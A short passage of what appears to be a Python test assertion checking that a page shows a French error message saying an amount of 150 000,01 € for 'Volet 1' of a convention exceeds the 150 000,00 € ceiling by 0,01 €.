        "Convention : Volet 1 : 150\u00a0000,01\u00a0€ dépasse le plafond de 150\u00a0000,00\u00a0€ de 0,01\u00a0€."
        in page
    )
